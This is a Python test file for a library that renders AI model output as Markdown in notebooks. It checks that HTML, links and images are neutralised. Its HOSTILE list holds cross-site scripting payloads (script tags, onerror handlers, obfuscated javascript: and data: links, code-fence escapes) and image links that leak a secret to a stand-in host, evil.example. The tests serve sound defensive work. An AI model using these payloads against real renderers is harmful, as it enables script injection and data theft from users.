"""What a model wrote is shown in a notebook as Markdown, and can do nothing there."""

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from modelwire.messages import AssistantMessage, ToolCall
from modelwire.messages.notebook import markdown_for_notebook

PLAIN = [
    "**Bern** is the *capital*.",
    "| a | b |\n| - | - |\n| 1 | 2 |",
    "See [the page](https://example.com/a?b=c) or [write](mailto:a@example.com).",
    "See [below](#there), and `x[1]: int`, and $a > b$.",
    "```python\nprint(d['a'](x))\n```",
    "- a\n  - b\n\n> said\n",
]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_markdown_stays_as_it_is(text):
    assert markdown_for_notebook(text) == text


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "a\n\n<iframe src='https://evil.example'></iframe>\n",
    "![x](https://evil.example/?secret)",
    "![x][1]\n\n[1]: https://evil.example/?secret",
    "[x](javascript:alert(1))",
    "[x]( \n JavaScript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n> [x]:\n> javascript:alert(1)",
    "<javascript:alert(1)>",
    " ~~~\n```\n ~~~\n<script>alert(1)</script>",
    "- ~~~\n  ```\n  ~~~\n<script>alert(1)</script>",
    "```\n`` `\n<script>alert(1)</script>",
    "$$\n```\n$$\n<img src=x onerror=alert(1)>",
    "```\na\n```~\n<script>alert(1)</script>\n```",
    "`a <b>` and ``c ` <i>``",
    "```html\n<p>\n\n</code></pre><script>alert(1)</script>\n```",
]
OWN = {"<code>", "</code>", "<pre>", "</pre>"}
# A scheme has no backtick, tilde or `<`, and none of the entities for `]`, `!` and `<`.
LINK = re.compile(r"\][(:]\s*(?!https?://|mailto:|&#(?:93|33|60);)[^\s)\]`~<]*:", re.IGNORECASE)


def active_in(shown):
    """What can act in Markdown, whatever is read as code: it is searched for without reading any."""
    tags = set(re.findall(r"<[^>]*>?", shown)) - OWN
    return [*tags, *LINK.findall(shown), *re.findall(r"!\[", shown)]


@pytest.mark.parametrize("text", [*HOSTILE, *(f"> {text}" for text in HOSTILE)])
def test_nothing_in_it_is_active_however_it_is_read(text):
    shown = AssistantMessage(text, "acme", "large")._repr_markdown_()
    assert active_in(shown) == []
    html = MarkdownIt("commonmark").enable("table").render(shown)
    assert not re.search(r"<(script|img|iframe|b|i|p>\s*<p)\b", html)
    assert not re.search(r"href=\"(?!https?:|mailto:)", html)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Use the `<b>` tag.", "<p>Use the <code>&lt;b&gt;</code> tag.</p>\n"),
        ("1 < 2", "<p>1 &lt; 2</p>\n"),
        ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"),
        ("Hi!", "<p>Hi!</p>\n"),
        (
            "```cpp\nvector<int> a; // *b*\n\nint c;\n```\nDone.",
            "<pre><code>vector&#60;int&#62; a; // &#42;b&#42;\n\nint c;\n</code></pre>\n<p>Done.</p>\n",
        ),
    ],
)
def test_html_is_shown_as_text_and_code_as_code(text, html):
    assert MarkdownIt("commonmark").render(markdown_for_notebook(text)) == html


def test_the_name_of_a_tool_is_no_way_out():
    message = AssistantMessage([ToolCall("1", "x`<script>")], "acme", "large")
    assert active_in(message._repr_markdown_()) == []


PIECES = [
    "<",
    "![",
    "](",
    "]:",
    "[",
    "javascript:",
    "http://",
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    " ",
    "a",
]


@settings(deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
@example("](a](javascript:")
@example("](a](a](a](javascript:")
def test_no_text_is_active(text):
    assert active_in(markdown_for_notebook(text)) == []


@pytest.mark.parametrize("piece", ["](", "[x](a", "`", "` ``", "```\n", "<", "!["])
def test_the_time_grows_with_the_length_alone(piece):
    def seconds(count):
        begin = time.process_time()
        markdown_for_notebook(piece * count)
        return time.process_time() - begin

    # A hundred times the length; ten thousand times the time would be quadratic.
    assert seconds(200_000) < 1_000 * max(seconds(2_000), 0.001)
